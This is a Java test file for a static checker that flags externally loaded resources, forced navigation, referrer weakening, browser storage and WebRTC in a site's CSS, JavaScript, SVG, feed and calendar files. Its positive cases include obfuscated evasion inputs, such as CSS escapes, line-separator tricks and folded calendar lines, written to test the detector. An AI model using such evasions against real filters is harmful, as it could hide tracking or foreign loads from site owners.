            a.js          | foreign-load    | a.rel = ""
            a.js          | foreign-load    | a.rel = words
            a.js          | foreign-load    | a["rel"] = "noopener"
            a.js          | foreign-load    | a.relList.remove("noreferrer")
            a.js          | foreign-load    | a.relList.value = ""
            a.js          | foreign-load    | const l = a.relList
            a.js          | foreign-load    | a.referrerPolicy = "unsafe-url"
            a.js          | foreign-load    | a.removeAttribute("rel")
            a.js          | foreign-load    | a.toggleAttribute("REL")
            a.js          | foreign-load    | a.removeAttributeNS(null, "rel")
            a.js          | foreign-load    | a.setAttribute("rel", "noopener")
            a.js          | foreign-load    | a.setAttribute("referrerpolicy", "unsafe-url")
            a.js          | foreign-load    | a.setAttributeNS(null, "rel", "")
            a.js          | foreign-load    | document.querySelector("meta[name=referrer]").content = "unsafe-url"
            a.js          | foreign-load    | document.querySelector("[name=referrer]").setAttribute("content", "unsafe-url")
            a.js          | foreign-load    | document.head.firstChild.content = "unsafe-url"
            a.js          | foreign-load    | document.querySelector("#t").click()
            a.js          | foreign-load    | location.replace(link.href)
            a.js          | foreign-load    | location.href = link.href
            a.js          | foreign-load    | location = link.href
            a.js          | foreign-load    | (() => { location.replace(link.href); })()
            a.js          | foreign-load    | (function () { document.querySelector("#t").click(); })()
            a.js          | foreign-load    | const x = function () { link.click(); }()
            a.js          | foreign-load    | const leave = () => location.replace(link.href); leave()
            a.js          | foreign-load    | function go() { leave(); } function leave() { link.click(); } setTimeout(go, 1)
            a.js          | foreign-load    | setTimeout(() => link.click(), 1)
            a.js          | foreign-load    | addEventListener("load", () => location.assign(link.href))
            a.js          | foreign-load    | window.onload = () => location.assign(link.href)
            a.js          | foreign-load    | document.querySelectorAll("a").forEach((link) => link.click())
            a.js          | foreign-load    | new Promise((resolve) => location.assign(link.href))
            a.js          | foreign-load    | class A { constructor() { link.click(); } }
            a.js          | foreign-load    | link.dispatchEvent(new MouseEvent("click"))
            a.js          | foreign-load    | link.dispatchEvent(new Event("click"))
            a.js          | foreign-load    | const f = () => 0; location.replace(link.href)
            a.js          | foreign-load    | form.requestSubmit()
            a.js          | browser-storage | document.title = input.value
            a.js          | browser-storage | document.title += input.value
            a.js          | browser-storage | document.title = part.dataset.title + input.value
            a.js          | browser-storage | let t = document.title; t = input.value; document.title = t
            """)
    void findsWhatLoadsFromElsewhereOrStaysOnTheDevice(String path, String rule, String text) {
        assertThat(check(path, text)).isNotEmpty();
        assertThat(check(path, text)).extracting(problem -> problem.rule().id()).contains(rule);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            a.css         | @charset "UTF-8"; @import "own.css";
            a.css         | @namespace svg url(http://www.w3.org/2000/svg);
            a.css         | a { background: url(../media/a.png) }
            a.css         | a { background: url("a.png") }
            a.css         | a { filter: url(#soft) }
            a.css         | a { background: image-set("a.png" 1x, "b.png" 2x) }
            a.css         | a[href^="https://"]::after { content: " (" attr(href) ")" }
            a.css         | a::before { content: "https://example.org/ is another site" }
            a.css         | a { color: red } /* url(https://a.example.org/a.png) */
            a.css         | a:not([href*="url(https:"]) { color: red }
            a.svg         | <svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>
            a.svg         | <svg><use href="#a"/><g fill="url(#b)" transform="rotate(45)"/></svg>
            a.svg         | <svg><!-- https://a.example.org/a.png --><text>https://example.org/</text></svg>
            a.svg         | <svg><a href="https://a.example.org/"><text>Go</text></a><a href="a.html"/></svg>
            a.svg         | <svg><image href="data:image/png;base64,AAAA"/></svg>
            a.svg         | <svg><image href="data:image/png;base64,AAAA"><animate attributeName="y" values="0;9" from="0" by="1"/></image></svg>
            a.svg         | <svg><set attributeName="fill" to="url(#a)"/><animate attributeName="fill" values="red;rgb(0 0 0)"/></svg>
            a.js          | // localStorage keeps what must not be kept
            a.js          | /* document.cookie */ say("localStorage");
            a.js          | say("Nothing goes to localStorage or fetch(address).");
            a.js          | const localStorageOfTheHub = 1;
            a.js          | say(`No ${name} in localStorage`);
            a.js          | const a = /localStorage"'`/.test(b);
            a.js          | const a = b => /[/"]/.test(b);
            a.js          | const a = b / c, d = (b + c) / 2 + e[0] / 2 + f(b) / 2 + "4" / 2;
            a.js          | return /'/.test(a) && !/"/.test(b) || [/`/, /[/'"]/g][0];
            a.js          | const a = `${/'/.exec(b)}` / 2; c = a + /'/;
            a.js          | a /= /'/; b = c => /'/; d = e ? /'/ : /"/; if (f) { /'/.test(g); }
            a.js          | fetch("data/resources.json").then(show);
            a.js          | document.createElementNS("http://www.w3.org/2000/svg", "path");
            a.js          | say("See https://example.org/"); say("Open: today"); a.split("//"); say("\\0");
            a.js          | picture.src = "harbour.png";
            a.js          | if (picture.src === other) { show(); }
            a.js          | for (const a of ["localStorage", "cookie"]) { say(a); }
            a.js          | function leave() { location.replace(exit.href); }
            a.js          | function show() {} setTimeout(show, 10);
            a.js          | class Box { constructor(a) { this.a = a; } }
            a.js          | part.textContent = text; part.append(other);
            a.js          | part.setAttribute("aria-expanded", state);
            a.js          | part.setAttribute("src", "own.png");
            a.js          | document.createElement("dd");
            a.js          | part.style.background = "url(own.png)";
            a.js          | const list = []; list[i] = window["innerWidth"]; details.open = true;
            a.js          | say("Choose the url (address) of the page"); say("It's (nearly) all there");
            a.js          | const a = link.href, b = { href: link.href }; if (picture.src !== a) { show(b); }
            a.js          | part.style.width = wide + "px"; part.style.setProperty("--wide", wide); part.name = "a";
            a.js          | const w = window.innerWidth; if (event.target === document || a == window) { show(this); }
            a.js          | say(import.meta.url); a = "b";
            a.js          | fetch("data.json", { credentials: "omit" }); say(self.name, parent.name);
            a.js          | const self = this; init(document); list.with(1, 2); say({ src: "a.png" });
            a.js          | new Promise((resolve) => setTimeout(resolve, 10))
            a.js          | new Promise(resolve => setTimeout(resolve, 10))
            a.js          | new Promise(function (resolve, reject) { setTimeout(resolve, 10); })
            a.js          | function show() {} setTimeout(show, 10)
            a.js          | const show = () => {}; let t = window.setTimeout(show, 10)
            a.js          | setTimeout(function () { a(); }, 10)
            a.js          | setTimeout(async () => {}, 10); setTimeout(a => b, 1); setTimeout(async function () {}, 1)
            a.js          | class A { open() { this.name = "a"; } close() { this.open(); } }
            a.js          | const a = { open(x) { show(x); } }; a.open(b);
            a.js          | function open(x) {} open(y)
            a.js          | const open = (x) => x; open(y); details.open = !details.open
            a.js          | let name = "a"; name = "b";
            a.js          | function f(name) { name = name.trim(); }
            a.js          | const f = (name, b) => { name = b; }; const g = name => { name = 1; }
            a.js          | class A { name = "x"; }
            a.js          | const { name = "a" } = options; for (const [name, value] of entries) { show(name, value); }
            a.js          | const list = []; list[i] = u
            a.js          | const found = new Uint8Array(8), known = JSON.parse(text); found[i] = u; known[key] = u
            a.js          | seen[link.href] = true; sizes[picture.src] = 0
            a.js          | if (list[i] in seen || picture.src in seen) { show(); }
            a.js          | const [src] = parts; for (const [href] of links) { show(src, href); }
            a.js          | function f() { let a, src, name, b; name = "a"; show(a, src, b); }
            a.js          | let name, a; name = "a"; rows[name] = 1
            a.js          | const top = box.top, parent = box.parentNode; show(top[0], parent[key]); parent.name = "a"
            a.js          | class Film { constructor(list) { this.frames = list; } show() { const all = this.frames; run(all); } }
            a.js          | const frames = [{ opacity: 0 }, { opacity: 1 }]; part.animate(frames, 300)
            a.js          | const parts = {}; parts[part.type] = part.value
            a.js          | last[1] = Math.max(last[1], until); counts[word] += 1; all[0] = b
            a.js          | const { src } = picture; show(src)
            a.js          | const { src: address } = picture
            a.js          | function f({ src, alt }) { show(src, alt); }
            a.js          | const f = ({ src }) => show(src)
            a.js          | Object.assign({}, a, b); Object.assign(options, { alt: "b" })
            a.js          | const leave = () => { location.replace(exit.href); location.assign(link.href); }; location.assign("a.html"); location.reload()
            a.js          | const location = place.location; show(location); const record = {}; record.location = place
            a.js          | part.style.width = w + "px"; part.style.setProperty("--a", b); const s = getComputedStyle(part)
            a.js          | on("click", (event) => location.assign(event.target.closest("a").href))
            a.js          | on("click", (event) => location.assign(event.target.closest("a")?.href))
            a.js          | const a = { href: item.querySelector("a").href, b: 1 }
            a.js          | const u = new URL(location.href), v = new URL(location), w = new URL(link.href), x = new URL("a.html", document.baseURI), y = new URL(event.target.closest("a").href)
            a.js          | const p = new URLSearchParams(location.search); location.hash = ""; location.hash = "main"
            a.js          | const record = {}; record.location = place; this.location = place
            a.js          | if (window.navigator && !window.self) { show(typeof window, "x" in window, x instanceof Object); }
            a.js          | const o = Object.keys(a); window?.addEventListener("x", f); window.history.back(); history.go(-1)
            a.js          | fetch("a.json", { credentials: "omit", cache: "no-store" }).then((r) => { return { body: r.body, method: "a" }; })
            a.js          | const s = part.style; s.width = "1px"; s.setProperty("--a", b); Object.assign(part.style, { width: w + "px", filter: "none" })
            a.js          | setTimeout(function step() { go(); }, 10); setTimeout(async function* () {}); const run = () => 1; setTimeout(run)
            a.js          | const link = document.createElement("a"); link.href = "a.html"; link.textContent = x
            a.js          | this.host = host; const host = location.host; if (link.host === location.host) { show(); }
            a.js          | const { location } = place; show(location.name); const history = []; history.push(x); draw(history)
            a.js          | document.addEventListener("x", (event) => { if (event.target.closest("a[href]")?.protocol === "mailto:") show(); })
            a.js          | on("click", (event) => { location.href = link.href; window.location.href = event.target.closest("a").href; })
            a.js          | setTimeout(this.close.bind(this, false), 300); setTimeout(show.bind(null), 200)
            a.js          | part.style.backgroundColor = color; part.style.backgroundPosition = x + "px 0"; part.style.borderImageWidth = w
            a.js          | if (link.protocol === "https:" && !link.href.startsWith("https://")) { show(); }
            a.js          | const known = {}; known[`${a}/${b}`] = c; show(known["a" + b]); rows[key] = []; rows[other] = {};
            a.js          | this.host = host; state.filter = value; item.content = text
            a.js          | const self = this; self.show(); const w = self.width
            a.js          | addEventListener("resize", show); getComputedStyle(document.body); observe(part)
            a.js          | const fills = document.createElement("template"); part.append(fills)
            a.js          | const handlers = { click: show, keydown: show }; handlers[event.type](event); handlers[key]?.(event)
            a.js          | const list = []; list.push(f); list[i](x); list[0](x); rows[i].focus(); new kinds.Box(x)
            a.js          | const s = text.replace(/'/g, "’"); if (a) { b = c / 2; }
            a.js          | const x = { name: "a", value: 1 }; x.name = "b"
            a.js          | button.title = name; let top = 1; let b = top;
            a.js          | const icons = { src: "a.png" }
            a.js          | const a = b ? "Note: x" : "c"
            a.js          | const origin = new URL("a.html", document.baseURI).href
            a.js          | for (const src of list) { show(src); }
            a.js          | export const src = 1, href = 2;
            a.js          | function f() { return (a + b) / c; }
            a.js          | const r = a.width / 2 / b.height
            a.js          | const ratio = (now - then) / (end - then), x = rect["width"] / 2;
            a.js          | if (a) b(); else /x/.test(c) && d();
            a.js          | fetch("data.json", { method: "GET", "mode": "same-origin", priority: "low", }).then((r) => r.json()).then((data) => { for (const k of Object.keys(data)) show(data[k]); })
            a.js          | const state = { counts: {} }; function show(filter = state.filter) { state.counts[k] = v; }
            a.js          | let found; found = {}; found[k] = v; function f() { found = {}; }
            a.js          | const grid = new Array(9).fill(0); grid[i] = v
            a.js          | class A { rows = []; add(x) { this.rows[i] = x; } }
            a.js          | class A { constructor() { this.rows = []; } add(x) { this.rows[i] = x; } }
            a.js          | `function group(list) { const groups = {}; for (const one of list) { groups[one.topic] ||= []; groups[one.topic].push(one); } return groups; }`
            a.js          | const sizes = list.reduce((all, one) => { show(one); return all; }, {}), rows = []; rows[0] = u
            a.js          | Object.assign(document.createElement("p"), { textContent: x, hidden: true }); Object.assign(a.b[0], { alt: x })
            a.js          | const all = Object.assign({}, a, b), o = Object.fromEntries(list); o[k] = v; part.dataset[k] = v
            a.js          | const n = Array.from(list, (x) => x.y).filter(Boolean); n[i] = v
            a.js          | let cache = null; cache = {}; cache[k] = v; cache = undefined
            a.js          | const rows = [], show = () => {}; setTimeout(show, 1); const f = ({ rows: list }) => list
            a.js          | let view = "list"; view = "map"; show(view); const state = { view: "list" }; state.view = view; draw(state.view); this.view = view
            a.js          | const find = (words, root = document) => root.querySelector(words); start(document); const root = document
            a.js          | part.classList[isOpen ? "add" : "remove"]("open"); part.classList?.[isOpen ? "add" : "remove"]("open")
            a.js          | dialog.open(); details.open = !details.open; class Box { open(x) { show(x); } } box.open(x)
            a.js          | const x = list[i] ? 0.5 : 1, y = rows[k]?.name, z = { k: list[i], m: words[key].length }
            a.js          | fetch("data.json", { signal }).then(show); fetch("a.json", { signal: stop.signal, cache: "no-store" }); fetch("a.json",)
            a.js          | const state = { search: "" }; state.search = input.value; this.search = input.value; state.hash = key
            a.js          | const searchParams = new URLSearchParams(location.search); show(searchParams.get("q"), searchParams); searchParams.delete("q")
            a.js          | const topic = new URL(location).searchParams.get("topic"); link.search = ""; link.hash = "main"; link.username = ""; show(link.search, link.pathname === "/a")
            a.js          | `if (["http:", "https:"].includes(a.protocol) || "https:" === a.protocol || a.href.indexOf("http://") === 0) show();`
            a.js          | switch (a.protocol) { case "https:": show(); break; } const kind = x ? "https:" : "http:"
            a.js          | (function (window, document) { const w = window.innerWidth; show(document, w); })(window, document);
            a.js          | (function (window, document, undefined) { show(document); }(window, document)); ((window) => { show(window.innerWidth); })(window)
            a.js          | const { pathname } = location; const { href, hash: part } = window.location; show(pathname, part)
            a.js          | link.href = "#" + heading.id; link.href = `#${heading.id}`; link.href = `#${a}-${b(c)}` + "-x"; link.setAttribute("href", "#" + slug(words) + "-" + n)
            a.js          | link.href += "#" + part.id; use.href.baseVal = "#" + icon; const entry = { href: "#" + heading.id, words: x }
            a.js          | const debounce = (fn, ms) => { let t; return () => { clearTimeout(t); t = setTimeout(() => fn(), ms); }; };
            a.js          | link.href = "#" + (a ? b : c) + "-" + n
            a.js          | switch (a) { case 1: { let e; e = {}; e[k] = u; } } const f = () => { let g; g = []; g[k] = u; }
            a.css         | @counter-style a { system: cyclic; symbols: "a" "b"; prefix: "Step: "; suffix: ". " }
            a.css         | ul { list-style-type: "Note: " }
            a.css         | a { --label: "Tip: "; quotes: "«" "»" }
            a.css         | a::before { content: var(--label, "Tip: ") }
            a.css         | a::after { content: " (" attr(href) ")" }
            a.css         | a::after { content: "https://example.org/" / "" }
            a.css         | a[href^="https://"]:not([href*="//example.org"]) { color: red }
            a.css         | a { grid-template-areas: "a b" "c d"; font-family: "A: B" }
            a.css         | @supports (font: -apple-system-body) { a { color: red } }
            a.css         | @media (min-width: 1px) { a { background: url("a.svg#b") } }
            a.css         | a { background: url( "a b.png" ) } b { background: url() }
            a.svg         | <svg><style>.a{font-family:"Note: x"}</style></svg>
            a.webmanifest | {"name": "Hub: all help", "start_url": "index.html", "description": "Note: a", "icons": [{"src": "a.png", "sizes": "1x1"}]}
            a.svg         | <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>
            a.svg         | <?xml version="1.0" encoding="UTF-8" standalone="no"?><svg/>
            a.ics         | URL:https://a.example.org/
            a.ics         | DESCRIPTION:See https://a.example.org/ and ATTACH:https://a.example.org/
            a.ics         | ATTACH;VALUE=BINARY;ENCODING=BASE64://uQxAAA
            a.vcf         | URL:https://a.example.org/
            a.vcf         | PHOTO:data:image/png;base64,AAAA
            a.vcf         | NOTE:PHOTO of the quay
            a.vcf         | NOTE;ENCODING=QUOTED-PRINTABLE:See https=3A//a.example.org/
            a.ics         | SUMMARY;X-A="b:c;d";ALTREP="cid:a":A "quay"; ALTREP=https://a.example.org/
            a.jsonld      | {"@context": "https://schema.org", "url": "https://a.example.org/", "name": "image"}
            a.jsonld      | {"@context": ["https://schema.org"], "image": ["a.png"], "sameAs": ["https://a.example.org/"]}
            a.jsonld      | {"image": {"url": "a.png", "author": {"@id": "https://a.example.org/"}}, "@id": "https://a.example.org/"}
            a.txt         | <html> in words
            a.csv         | <!-- no page -->
            a.pdf         | %PDF-1.4
            a.docx        | PK
            A.PNG         | anything
            a.webmanifest | {"name": "Hub", "icons": [{"src": "icon.svg"}]}
            a.png         | https://a.example.org/
            a.mp4         | ....ftypmp42
            a.ogg         | OggS
            a.mp3         | ID3
            a.wav         | RIFFaaaaWAVE
            a.vtt         | WEBVTT
            a.txt         | Lists of films begin with #EXTM3U
            a.js          | function open(x) {} open(y); button.addEventListener("click", open)
            a.js          | details.open = true; dialog.open(); if (details.open) show(dialog.open); const { open } = details; show(open)
            a.js          | const a = { open: true, close() {} }; class A { open = false; show() { this.open = true; } }
            a.js          | part.classList.toggle("open", details["open"]); open("help.html", "_blank", "noopener")
            a.js          | class Menu { open(x) { show(x); } } const menu = new Menu(); menu.open(part); button.addEventListener("click", menu.open.bind(menu))
            a.js          | const form = { evaluate(x) { return x; } }; form.evaluate(y); const n = rule.evaluate(x)
            a.js          | link.rel = "noreferrer noopener"; link.setAttribute("rel", "noopener noreferrer"); link.referrerPolicy = "no-referrer"
            a.js          | if (link.rel === "next" || link.relList.contains("external")) { show(link.rel); } const record = {}; record.rel = x
            a.js          | part.removeAttribute("hidden"); part.toggleAttribute("open"); item.content = words; part.removeAttribute(name)
            a.js          | document.querySelector("meta[name=theme-color]").content = colour
            a.js          | const metaphor = "Go ahead"; item.content = metaphor
            a.js          | button.addEventListener("click", () => { location.assign(link.href); })
            a.js          | button.addEventListener("click", () => location.assign(link.href))
            a.js          | button.onclick = () => location.assign(link.href); other.onclick = leave; function leave() { link.click(); }
            a.js          | const leave = () => { location.replace(link.href); }; button.addEventListener("click", leave)
            a.js          | const count = (event) => { if (event.key) leave(); }; function leave() { link.click(); } document.addEventListener("keyup", count)
            a.js          | document.querySelectorAll("a").forEach((link) => link.addEventListener("click", (event) => { go(link); })); const go = (link) => { location.replace(link.href); }
            a.js          | const go = (link) => () => location.assign(link.href); button.addEventListener("click", go(link))
            a.js          | for (const kind of ["click", "keyup"]) { part.addEventListener(kind, () => part.click()); }
            a.js          | class Tab { constructor(part) { part.addEventListener("click", () => this.show()); } show() { this.input.click(); } } new Tab(part)
            a.js          | part.addEventListener("click", debounce(() => input.click(), 100))
            a.js          | document.addEventListener("click", function leave(event) { location.href = event.target.closest("a").href; })
            a.js          | document.dispatchEvent(new CustomEvent("ready")); if (event instanceof MouseEvent) show()
            a.js          | document.title = "Left"; document.title = part.dataset.title; document.title = exit.hostname
            a.js          | const title = document.title; document.title = title; button.title = words; show(document.title)
            a.js          | const proxy = x; class Proxy {} new Proxy()
            """)
    void leavesAloneWhatOnlyLooksLikeIt(String path, String text) {
        assertThat(check(path, text)).isEmpty();
    }

    @Test
    void namesTheSourceAndItsLine() {
        SourceFile fine = new SourceFile("themes/plain/assets/css/a.css", "a { color: red }\n");
        SourceFile own = new SourceFile(
                "theme/assets/css/b.css", "/* Ours. */\n\nb { background: url(https://a.example.org/a.png) }\n");
        byte[] joined = bytes("a { color: red }\nb { background: url(https://a.example.org/a.png) }\n");

        assertThat(FileCheck.check("assets/haven.css", joined, List.of(fine, own)))
                .extracting(problem -> problem.place().toString())
                .containsExactly("theme/assets/css/b.css:3:21");
    }

    @Test
    void whatOnlyTheFinishedFileLoadsIsFoundThere() {
        SourceFile source =
                new SourceFile("theme/assets/css/a.css", "a { background: u/**/rl(https://a.example.org/a.png) }");

        assertThat(FileCheck.check(
                        "assets/haven.css",
                        bytes("a { background: url(https://a.example.org/a.png) }"),
                        List.of(source)))
                .extracting(problem -> problem.place().file())
                .containsExactly("assets/haven.css");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a{content:\"\n;}b{background:url(//a.example.org/a.png)}/*\"}*/",
                "a{content:\"\r;}b{background:url(//a.example.org/a.png)}/*\"}*/",
                "a{content:\"\r\n;}b{background:url(//a.example.org/a.png)}/*\"}*/",
                "a{content:\"\f;}b{background:url(//a.example.org/a.png)}/*\"}*/",
                "a{background:\\75\r\nrl(//a.example.org/a.png)}",
                "a{background:x\\\nurl(//a.example.org/a.png)}",
            })
    void aStyleSheetIsReadByTheLinesOfABrowser(String sheet) {
        assertThat(check("a.css", sheet)).isNotEmpty();
        assertThat(check("a.svg", "<svg><style>" + sheet.replace("\r", "&#13;") + "</style></svg>"))
                .isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "let a = 1; // note\rnew RTCPeerConnection()",
                "let a = 1; // note\u2028new RTCPeerConnection()",
                "let a = 1; // note\u2029new RTCPeerConnection()",
                "<!-- /*\nnew RTCPeerConnection() // */",
                "let a;\n--> /*\nnew RTCPeerConnection() // */",
                "#! /*\nnew RTCPeerConnection() // */",
                "let a = 'b\rnew RTCPeerConnection() //'",
                "let a = /b\rnew RTCPeerConnection() /c",
                "picture.src\u00a0= address",
                "fetch\ufeff(address)",
                "fetch('ht\\\u2028tp://a.example.org/a')",
                "fetch('ht\\\r\ntp://a.example.org/a')",
                "fetch('ht\\\rtp://a.example.org/a')",
                "let a\n/'/; leave(); 0, /'/",
                "import 'a.js' /*\u2028*/ /\"/; leave(); 0, /\"/",
            })
    void aScriptIsReadByTheLinesOfABrowser(String script) {
        assertThat(check("a.js", script)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "let a = 1; // fetch(b)\r\nlet b = 2; // fetch(b)",
                "let a = \"<!-- b --> #! \u2028\"; if (a > b) c--;"
            })
    void whatIsOnALineOfItsOwnInAScriptMayBeAnything(String script) {
        assertThat(check("a.js", script)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a{content:\"a\\\r\nb\"}\r\na{color:red}", "a{content:\"\\22\r\nb\"}"})
    void aTextOfAStyleSheetMayGoOnInTheNextLine(String sheet) {
        assertThat(check("a.css", sheet)).isEmpty();
    }

    @Test
    void refusesWhatIsNotUtf8() {
        byte[] drawing = "<svg/>".getBytes(StandardCharsets.UTF_16);

        assertThat(FileCheck.check("media/a.svg", drawing, List.of())).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?xml version='1.0'?><?xml-stylesheet href='https://a.example.org/a.xsl'?><urlset/>",
                "<!DOCTYPE feed SYSTEM 'a.dtd'><feed/>",
                "<feed><icon>https://a.example.org/a.png</icon></feed>",
                "<feed><logo>//a.example.org/a.png</logo></feed>",
                "<a:feed xmlns:a='a'><a:logo>https://a.example.org/a.png</a:logo></a:feed>",
                "<feed><entry><link rel='enclosure' href='https://a.example.org/a.mp3'/></entry></feed>",
                "<feed><entry><link rel='stylesheet' href='https://a.example.org/a.css'/></entry></feed>",
                "<feed><entry><content type='html'>&lt;img src=https://a.example.org/a.png></content></entry></feed>",
                "<feed><entry><summary type='xhtml'><div/></summary></entry></feed>",
                "<feed><entry><content src='https://a.example.org/a.html'/></entry></feed>",
                "<feed><entry><media:thumbnail url='https://a.example.org/a.png'/></entry></feed>",
            })
    void findsWhatReadersOfFeedsLoad(String text) {
        assertThat(made("feed.xml", text)).isNotEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            feed.xml      | <?xml version="1.0"?><feed><link rel="self" href="https://a.example.org/"/><title>icon</title></feed>
            sitemap.xml   | <urlset><url><loc>https://a.example.org/</loc></url></urlset>
            a.ics         | URL:https://a.example.org/
            data/a.json   | {"logo": "https://a.example.org/a.png"}
            .htaccess     | anything
            """)
    void leavesFilesAloneThatHavenMade(String path, String text) {
        assertThat(made(path, text)).isEmpty();
    }

    @Test
    void aLongLineOfACalendarIsReadAsOne() {
        assertThat(check("a.ics", "BEGIN:VEVENT\r\nATT\r\n ACH:htt\r\n\tps://a.example.org/a.pdf\r\nEND:VEVENT\r\n"))
                .extracting(problem -> problem.place().line())
                .containsExactly(2);
    }

    private static List<Problem> made(String path, String text) {
        return FileCheck.checkMade(Place.inFile("haven.yaml"), path, text);
    }

    private static List<Problem> check(String path, String text) {
        return FileCheck.check(path, bytes(text), List.of());
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
